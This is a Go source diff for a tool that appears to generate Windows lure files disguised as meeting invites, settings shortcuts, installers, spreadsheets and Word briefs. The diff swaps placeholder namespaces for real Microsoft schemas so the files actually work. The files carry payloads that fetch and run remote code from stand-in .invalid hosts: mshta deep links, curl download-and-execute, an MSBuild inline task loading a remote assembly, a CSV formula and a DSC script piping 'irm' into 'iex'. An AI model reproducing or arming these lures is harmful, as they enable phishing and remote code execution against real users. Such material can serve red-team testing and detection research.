@@ -38,10 +38,10 @@ func (b *kit) freshLinks() {
 <?xml version="1.0"?><persistedQuery version="1.0"><query><scope><include path="\\recordings-search.invalid@SSL\DavWWWRoot\r" nonRecursive="true"/></scope></query></persistedQuery>
 `)
 	win("moniker", "library", "Meeting Files.library-ms", `
-<?xml version="1.0" encoding="UTF-8"?><libraryDescription xmlns="http://schemas.invalid/windows/2009/library"><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\meeting-files.invalid@80\files</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>
+<?xml version="1.0" encoding="UTF-8"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\meeting-files.invalid@80\files</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>
 `)
 	win("moniker", "settings shortcut", "Camera Settings.settingcontent-ms", `
-<?xml version="1.0"?><PCSettings><SearchableContent xmlns="urn:inert"><ApplicationInformation><AppID>windows.immersivecontrolpanel</AppID>
+<?xml version="1.0"?><PCSettings><SearchableContent xmlns="http://schemas.microsoft.com/Search/2013/SettingContent"><ApplicationInformation><AppID>windows.immersivecontrolpanel</AppID>
 <DeepLink>%windir%\system32\cmd.exe /c mshta https://camera-settings.invalid/c</DeepLink><Icon>%windir%\system32\control.exe</Icon></ApplicationInformation></SearchableContent></PCSettings>
 `)
 	win("remote", "remote desktop to the stranger", "Join Meeting Desktop.rdp", `
@@ -60,13 +60,13 @@ prompt for credentials:i:0
 func (b *kit) freshDocuments() {
 	win := func(story, language, obf, name, text string) { b.lure(story, "windows", obf, language, name, text) }
 	win("appinstaller", "xml", "plain", "TeamsForGuests.appinstaller", `
-<?xml version="1.0" encoding="utf-8"?><AppInstaller Uri="https://teams-guests.invalid/t.appinstaller" Version="1.0.0.0" xmlns="urn:inert">
+<?xml version="1.0" encoding="utf-8"?><AppInstaller Uri="https://teams-guests.invalid/t.appinstaller" Version="1.0.0.0" xmlns="http://schemas.microsoft.com/appx/appinstaller/2018">
 <MainPackage Name="Teams.Guests" Publisher="CN=Nordic Pine Oy" Version="1.0.0.0" Uri="https://teams-guests.invalid/t.msix" ProcessorArchitecture="x64"/>
 <UpdateSettings><OnLaunch HoursBetweenUpdateChecks="0"/></UpdateSettings></AppInstaller>
 `)
 	win("clickonce", "xml", "plain", "MeetingRoom.application", `
-<?xml version="1.0" encoding="utf-8"?><asmv1:assembly manifestVersion="1.0" xmlns:asmv1="urn:inert">
-<asmv1:assemblyIdentity name="MeetingRoom.application" version="1.0.0.0"/><description asmv2:publisher="Teams" asmv2:product="Microsoft Teams Room" xmlns:asmv2="urn:inert2"/>
+<?xml version="1.0" encoding="utf-8"?><asmv1:assembly manifestVersion="1.0" xmlns:asmv1="urn:schemas-microsoft-com:asm.v1">
+<asmv1:assemblyIdentity name="MeetingRoom.application" version="1.0.0.0"/><description asmv2:publisher="Teams" asmv2:product="Microsoft Teams Room" xmlns:asmv2="urn:schemas-microsoft-com:asm.v2"/>
 <deployment install="true" trustURLParameters="true"><deploymentProvider codebase="https://meeting-room-co.invalid/MeetingRoom.application"/></deployment></asmv1:assembly>
 `)
 	win("registry", "reg", "plain", "Enable Echo Cancel.reg", `
@@ -84,7 +84,7 @@ RunPreSetupCommands=go
 cmd /c curl -s https://usbcam-inf.invalid/u -o %TEMP%\u.exe && %TEMP%\u.exe
 `)
 	win("msbuild", "xml", "inline task", "avatar.csproj", `
-<Project ToolsVersion="4.0"><Target Name="B"><A/></Target><UsingTask TaskName="A" TaskFactory="CodeTaskFactory" AssemblyFile="C:\Windows\Microsoft.Net\Framework64\v4.0.30319\Microsoft.Build.Tasks.v4.0.dll">
+<Project ToolsVersion="4.0" xmlns="http://schemas.microsoft.com/developer/msbuild/2003"><Target Name="B"><A/></Target><UsingTask TaskName="A" TaskFactory="CodeTaskFactory" AssemblyFile="C:\Windows\Microsoft.Net\Framework64\v4.0.30319\Microsoft.Build.Tasks.v4.0.dll">
 <Task><Code Type="Class" Language="cs"><![CDATA[ using System.Net;using System.Reflection; public class A:Microsoft.Build.Utilities.Task{public override bool Execute(){Assembly.Load(new WebClient().DownloadData("https://avatar-cs.invalid/a")).EntryPoint.Invoke(null,null);return true;}} ]]></Code></Task></UsingTask></Project>
 `)
 	win("msc", "xml", "console file", "Call Rooms.msc", `
@@ -96,7 +96,7 @@ cmd /c curl -s https://usbcam-inf.invalid/u -o %TEMP%\u.exe && %TEMP%\u.exe
 	win("excel", "csv", "formula", "participants.csv", "Name,Company,Link\nM. Sato,Kita KK,\"=cmd|'/c powershell irm https://participants-csv.invalid/p|iex'!A1\"\n")
 	win("excel", "iqy", "web query", "schedule.iqy", "WEB\n1\nhttps://schedule-iqy.invalid/s.dat\n\nSelection=AllTables\nFormatting=None\n")
 	win("word", "xml", "flat document that links a template", "Interview Brief.xml", `
-<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument xmlns:w="urn:inert"><w:docPr><w:attachedTemplate w:val="https://interview-brief.invalid/t.dotm"/></w:docPr><w:body><w:p><w:r><w:t>Enable editing to see the call link.</w:t></w:r></w:p></w:body></w:wordDocument>
+<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"><w:docPr><w:attachedTemplate w:val="https://interview-brief.invalid/t.dotm"/></w:docPr><w:body><w:p><w:r><w:t>Enable editing to see the call link.</w:t></w:r></w:p></w:body></w:wordDocument>
 `)
 	win("winget", "yaml", "manifest", "calls.client.yaml", "PackageIdentifier: Zoom.Zoom\nPackageVersion: 6.9.1\nPublisher: Zoom Video Communications, Inc.\nPackageName: Zoom Workplace\nInstallers:\n- Architecture: x64\n  InstallerType: exe\n  InstallerUrl: https://zoom-winget.invalid/ZoomInstaller.exe\n  InstallerSha256: 00\nManifestType: singleton\n")
 	win("dsc", "yaml", "winget configuration", "interview.dsc.yaml", "properties:\n  resources:\n  - resource: PSDscResources/Script\n    settings:\n      GetScript: |\n        $true\n      TestScript: |\n        return $false\n      SetScript: |\n        irm https://interview-dsc.invalid/i | iex\n  configurationVersion: 0.2.0\n")
